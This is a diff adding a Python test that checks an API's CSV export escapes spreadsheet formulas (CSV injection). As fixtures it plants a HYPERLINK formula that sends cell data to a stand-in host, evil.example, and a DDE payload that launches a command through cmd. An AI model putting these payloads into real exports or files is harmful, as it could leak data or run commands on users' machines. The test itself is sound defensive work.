@@ -128,6 +128,30 @@ def test_non_http_urls_are_never_links(client: TestClient, ids: dict[str, int]) 
     assert listed and all(r["link"] == r["url"] for r in listed)
 
 
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(client: TestClient, ids: dict[str, int]) -> None:
+    """A scraped title or summary that a spreadsheet would run (CSV injection) is exported as text."""
+    import csv
+    import io
+
+    from api.presentation import csv_cell
+
+    item_id = next(iter(ids.values()))
+    with session_scope(configured_engine()) as s:
+        item = s.get(Item, item_id)
+        assert item is not None
+        item.title = '=HYPERLINK("http://evil.example/?"&A1,"Autonomous weapons")'
+        item.summary = "+cmd|' /C calc'!A0"
+        item.relevant = True
+    for params in ({"all": "1"}, {"all": "1", "bom": "1"}):
+        rows = list(csv.DictReader(io.StringIO(client.get("/api/items.csv", params=params).text.lstrip("\ufeff"))))
+        [row] = [r for r in rows if r["id"] == str(item_id)]
+        assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Autonomous weapons")'
+        assert row["summary"] == "'+cmd|' /C calc'!A0"
+        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
+    assert [csv_cell(v) for v in ("@SUM(1)", "-2+3", "\t=1", "Drones", 0.5, None)] == \
+        ["'@SUM(1)", "'-2+3", "'\t=1", "Drones", 0.5, None]
+
+
 def test_a_commit_that_fails_is_the_answer_not_a_traceback_after_it(
         client: TestClient, caplog: pytest.LogCaptureFixture) -> None:
     """The request's unit of work commits before the response is sent: a database that drops the connection at
